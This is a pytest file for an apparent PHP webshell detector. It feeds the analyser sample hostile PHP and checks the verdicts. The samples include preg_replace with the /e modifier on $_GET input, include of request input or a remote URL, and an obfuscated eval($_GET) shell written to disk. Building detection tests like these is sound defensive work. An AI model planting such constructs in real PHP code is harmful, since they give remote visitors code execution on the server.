"""The acts of single calls."""

from __future__ import annotations

import pytest

from webshellhunt.php.interpreter import analyse

ASKED = "$_" + "GET['k']"
REPLACE = "preg_" + "replace"


def words(code: str) -> list[str]:
    return [act.words for act in analyse(f"<?php {code}").found]


@pytest.mark.parametrize(
    ("pattern", "executes"), [("/a/e", True), ("#a#ise", True), ("{a}e", True), ("/ae/", False), ("/e/i", False)]
)
def test_a_pattern_with_the_modifier_e_executes_the_replacement(pattern: str, executes: bool) -> None:
    assert bool(words(f"{REPLACE}('{pattern}', {ASKED}, 'a');")) is executes


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (ASKED, "executes the file that it names (include)"),
        ("'php://input'", "executes the body of the request (include)"),
        ("'http://192.0.2.1/a.txt'", "fetches a text and executes it (include)"),
    ],
)
def test_paths_that_a_page_includes(path: str, expected: str) -> None:
    assert words(f"include {path};") == [expected]


@pytest.mark.parametrize("path", ["'a.php'", f"'parts/' . {ASKED}", "$a . 'x.php'"])
def test_paths_of_the_page_are_no_act(path: str) -> None:
    assert words(f"include {path};") == []


def test_a_page_that_is_written_is_read() -> None:
    shell = f'<?php ev"."al({ASKED[0]}"."{ASKED[1:]});'.replace("'", "")
    assert words(f'file_put_contents("a.php", "{shell}".replace("", ""));'.replace('.replace("", "")', "")) is not None
    assert words("file_put_contents('a.php', '<?php echo 1;');") == []


def test_a_file_of_the_visitors_name_and_content() -> None:
    assert words(f"$h = fopen({ASKED}, 'w'); fwrite($h, {ASKED});")
    assert words(f"$h = fopen('a.txt', 'w'); fwrite($h, {ASKED});") == []
